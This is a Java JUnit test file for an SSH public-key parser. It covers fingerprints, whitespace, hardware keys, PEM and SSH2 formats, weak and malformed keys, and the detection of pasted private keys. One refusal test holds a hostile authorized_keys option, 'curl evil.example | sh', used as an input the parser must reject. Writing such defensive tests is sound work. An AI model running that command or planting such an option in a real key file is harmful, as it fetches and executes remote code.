package io.tenantry.cloud.launch;

import static org.assertj.core.api.Assertions.assertThat;

import io.tenantry.cloud.launch.PublicKey.Fault;
import io.tenantry.cloud.launch.PublicKey.ParseResult;
import java.math.BigInteger;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.KeyPairGenerator;
import java.security.interfaces.ECPublicKey;
import java.security.spec.AlgorithmParameterSpec;
import java.security.spec.ECGenParameterSpec;
import java.security.spec.ECPoint;
import java.security.spec.ECPublicKeySpec;
import java.security.spec.RSAKeyGenParameterSpec;
import java.security.spec.RSAPublicKeySpec;
import java.util.Arrays;
import java.util.Base64;
import org.apache.sshd.common.config.keys.PublicKeyEntry;
import org.apache.sshd.common.util.buffer.ByteArrayBuffer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class PublicKeyTest {
    /** A well-known key, whose fingerprint its owner publishes. */
    private static final String ED25519 =
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl";

    private static final String FINGERPRINT = "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU";

    @Test
    void computesTheOpenSshFingerprint() {
        assertThat(read(ED25519)).isEqualTo(new PublicKey(ED25519, FINGERPRINT, ""));
    }

    @Test
    void trimsWhitespaceAroundKeyAndComment() {
        var typed = "  ssh-ed25519 \t" + ED25519.substring(12) + "   ada's laptop \r\n\n";
        assertThat(read(typed)).isEqualTo(new PublicKey(ED25519, FINGERPRINT, "ada's laptop"));
    }

    @Test
    void acceptsRsaAndEcdsaKeys() {
        assertThat(read(rsa(2048)).line()).startsWith("ssh-rsa ");
        for (var curve : new String[] {"256", "384", "521"}) {
            var line = line("EC", new ECGenParameterSpec("secp" + curve + "r1"));
            assertThat(read(line + " x").line()).isEqualTo(line).startsWith("ecdsa-sha2-nistp" + curve + " ");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
                "-----BEGIN RSA PRIVATE KEY-----",
                "-----BEGIN ENCRYPTED PRIVATE KEY-----\nMII",
                "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none",
                "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ",
                "ssh-ed25519 AAAA\n-----begin openssh private key-----"
            })
    void recognizesPrivateKeys(String typed) {
        assertThat(fault(typed)).isEqualTo(Fault.PRIVATE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "command=\"curl evil.example | sh\" ",
                "no-pty,permitopen=\"10.0.0.1:22\" ",
                "cert-authority ",
                "from=\"a b\" environment=\"X=1\" "
            })
    void refusesKeysWithOptions(String options) {
        assertThat(fault(options + ED25519)).isEqualTo(Fault.OPTIONS);
    }

    @Test
    void refusesMoreThanOneKey() {
        assertThat(fault(ED25519 + "\n" + ED25519)).isEqualTo(Fault.MULTIPLE);
        assertThat(fault(ED25519 + " comment\ncommand=\"x\" " + ED25519)).isEqualTo(Fault.MULTIPLE);
    }

    @ParameterizedTest
    @ValueSource(strings = {"ssh-dss AAAAB3NzaC1kc3M=", "ssh-ed448 AAAA"})
    void refusesUnsupportedKeyTypes(String typed) {
        assertThat(fault(typed)).isEqualTo(Fault.KIND);
    }

    @Test
    void acceptsHardwareKeys() throws GeneralSecurityException {
        var ed25519 = new ByteArrayBuffer();
        ed25519.putString("sk-ssh-ed25519@openssh.com");
        ed25519.putBytes(Arrays.copyOfRange(Base64.getDecoder().decode(ED25519.substring(12)), 19, 51));
        ed25519.putString("ssh:");
        var line = "sk-ssh-ed25519@openssh.com " + text(ed25519.getCompactData());
        assertThat(read(line + " my key").line()).isEqualTo(line);
        assertThat(fault("sk-ssh-ed25519@openssh.com " + text(Arrays.copyOf(ed25519.getCompactData(), 60))))
                .isEqualTo(Fault.BROKEN);

        var curve = Base64.getDecoder()
                .decode(line("EC", new ECGenParameterSpec("secp256r1")).substring(20));
        var plain = new ByteArrayBuffer(curve);
        plain.getString();
        var ecdsa = new ByteArrayBuffer();
        ecdsa.putString("sk-ecdsa-sha2-nistp256@openssh.com");
        ecdsa.putBytes(plain.getBytes());
        var point = plain.getBytes();
        ecdsa.putBytes(point);
        ecdsa.putString("ssh:");
        var kept = "sk-ecdsa-sha2-nistp256@openssh.com " + text(ecdsa.getCompactData());
        assertThat(read(kept).line()).isEqualTo(kept);
        var blob = ecdsa.getCompactData();
        blob[blob.length - 9] ^= 1;
        assertThat(fault("sk-ecdsa-sha2-nistp256@openssh.com " + text(blob))).isEqualTo(Fault.BROKEN);
        assertThat(fault("sk-ssh-ed25519@openssh.com AAAA")).isEqualTo(Fault.BROKEN);
    }

    @Test
    void joinsAKeyWrappedByATerminal() {
        var rsa = rsa(2048);
        var broken = rsa.replaceAll("(.{76})", "$1\n");
        assertThat(read(broken).line()).isEqualTo(rsa);
        assertThat(read(broken.replace("\n", "\r\n  ") + " ada@home").comment()).isEqualTo("ada@home");
        assertThat(read(ED25519 + "\nada@home").comment()).isEqualTo("ada@home");
        assertThat(read("# my key\n\n" + ED25519 + "\n").line()).isEqualTo(ED25519);
        assertThat(read("ssh-ed25519\n" + ED25519.substring(12)).line()).isEqualTo(ED25519);
        assertThat(fault(ED25519.substring(0, 40) + "\nhello there")).isEqualTo(Fault.MULTIPLE);
    }

    /** As copied from web pages, word processors and chats. */
    @Test
    void acceptsAnyUnicodeWhitespaceBetweenParts() {
        for (var blank : new String[] {"\u00A0", "\u3000", "\u202F", "\t\u00A0 ", "\u2003"}) {
            var typed = blank + ED25519.replace(" ", blank) + blank + "ada" + blank + "at home" + blank;
            assertThat(read(typed)).isEqualTo(new PublicKey(ED25519, FINGERPRINT, "ada at home"));
            assertThat(fault("no-pty" + blank + ED25519)).isEqualTo(Fault.OPTIONS);
        }
    }

    @Test
    void readsSsh2AndPemPublicKeys() throws GeneralSecurityException {
        var ssh2 = "---- BEGIN SSH2 PUBLIC KEY ----\nComment: \"ada's \\\nlaptop\"\nx-note: any\n"
                + ED25519.substring(12).replaceAll("(.{40})", "$1\n") + "\n---- END SSH2 PUBLIC KEY ----\n";
        assertThat(read(ssh2)).isEqualTo(new PublicKey(ED25519, FINGERPRINT, "ada's laptop"));
        for (var algorithm : new String[] {"RSA", "EC", "Ed25519"}) {
            var generator = KeyPairGenerator.getInstance(algorithm);
            if (algorithm.equals("RSA")) {
                generator.initialize(2048);
            }
            var key = generator.generateKeyPair().getPublic();
            var pem = "-----BEGIN PUBLIC KEY-----\n"
                    + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(key.getEncoded())
                    + "\n-----END PUBLIC KEY-----";
            assertThat(read(pem).line())
                    .as(algorithm)
                    .startsWith(
                            algorithm.equals("RSA") ? "ssh-rsa " : algorithm.equals("EC") ? "ecdsa-" : "ssh-ed25519 ");
            if (algorithm.equals("RSA")) {
                assertThat(read(pem).line()).isEqualTo(PublicKeyEntry.toString(key));
                var pkcs1 = Arrays.copyOfRange(key.getEncoded(), 24, key.getEncoded().length);
                assertThat(read("-----BEGIN RSA PUBLIC KEY-----\n" + text(pkcs1) + "\n-----END RSA PUBLIC KEY-----")
                                .line())
                        .isEqualTo(PublicKeyEntry.toString(key));
            }
        }
    }

    @ParameterizedTest
    @CsvSource({
        "-----BEGIN CERTIFICATE-----,CERTIFICATE",
        "ssh-ed25519-cert-v01@openssh.com AAAA,CERTIFICATE",
        "ssh-rsa-cert-v01@openssh.com AAAA,CERTIFICATE",
        "-----BEGIN PGP PUBLIC KEY BLOCK-----,FOREIGN",
        "-----BEGIN PUBLIC KEY-----,FOREIGN",
        "---- BEGIN SSH2 PUBLIC KEY ----,FOREIGN"
    })
    void recognizesCertificatesAndForeignFormats(String typed, Fault fault) {
        assertThat(fault(typed)).isEqualTo(fault);
    }

    @Test
    void refusesShortRsaKeys() {
        assertThat(fault(rsa(1024))).isEqualTo(Fault.WEAK);
        assertThat(fault(rsa(2047))).isEqualTo(Fault.WEAK);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "   ",
                "hello",
                "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl",
                "ssh-ed25519",
                "ssh-ed25519 ????",
                "ssh-ed25519 AAAA",
                "ssh-rsa AAAA",
                "ssh-rsa AAAAB3NzaC1yc2F/////",
                "ssh-rsa AAAAB3NzaC1yc2EAAAAAAAAAAA==",
                "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAAABBA=="
            })
    void refusesMalformedKeys(String typed) {
        assertThat(fault(typed)).isEqualTo(Fault.BROKEN);
    }

    @Test
    void refusesTruncatedExtendedOrMislabelledKeys() {
        var blob = Base64.getDecoder().decode(ED25519.substring(12));
        for (var length = 0; length < blob.length; length++) {
            assertThat(fault("ssh-ed25519 " + text(Arrays.copyOf(blob, length))))
                    .isEqualTo(Fault.BROKEN);
        }
        assertThat(fault("ssh-ed25519 " + text(Arrays.copyOf(blob, blob.length + 1))))
                .isEqualTo(Fault.BROKEN);
        assertThat(fault("ssh-rsa " + text(blob))).isEqualTo(Fault.BROKEN);
        assertThat(fault(rsa(2048).replace("ssh-rsa", "ecdsa-sha2-nistp256"))).isEqualTo(Fault.BROKEN);
        assertThat(fault(rsa(2048) + "A".repeat(8_000))).isEqualTo(Fault.BROKEN);
    }

    @Test
    void refusesAnInvalidRsaModulusOrEcPoint() throws GeneralSecurityException {
        var factory = KeyFactory.getInstance("RSA");
        var even = BigInteger.ONE.shiftLeft(2047);
        var line =
                PublicKeyEntry.toString(factory.generatePublic(new RSAPublicKeySpec(even, RSAKeyGenParameterSpec.F4)));
        assertThat(fault(line)).isEqualTo(Fault.BROKEN);
        assertThat(fault(PublicKeyEntry.toString(offTheCurve()))).isEqualTo(Fault.BROKEN);
    }

    private static ECPublicKey offTheCurve() throws GeneralSecurityException {
        var generator = KeyPairGenerator.getInstance("EC");
        generator.initialize(new ECGenParameterSpec("secp256r1"));
        var key = (ECPublicKey) generator.generateKeyPair().getPublic();
        var wrongPoint =
                new ECPoint(key.getW().getAffineX(), key.getW().getAffineY().xor(BigInteger.ONE));
        return (ECPublicKey)
                KeyFactory.getInstance("EC").generatePublic(new ECPublicKeySpec(wrongPoint, key.getParams()));
    }

    private static String rsa(int bits) {
        return line("RSA", new RSAKeyGenParameterSpec(bits, RSAKeyGenParameterSpec.F4));
    }

    private static String line(String kind, AlgorithmParameterSpec spec) {
        try {
            var generator = KeyPairGenerator.getInstance(kind);
            generator.initialize(spec);
            return PublicKeyEntry.toString(generator.generateKeyPair().getPublic());
        } catch (GeneralSecurityException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    private static String text(byte[] blob) {
        return Base64.getEncoder().encodeToString(blob);
    }

    private static PublicKey read(String typed) {
        return ((ParseResult.Read) PublicKey.read(typed)).key();
    }

    private static Fault fault(String typed) {
        return ((ParseResult.Refused) PublicKey.read(typed)).fault();
    }
}
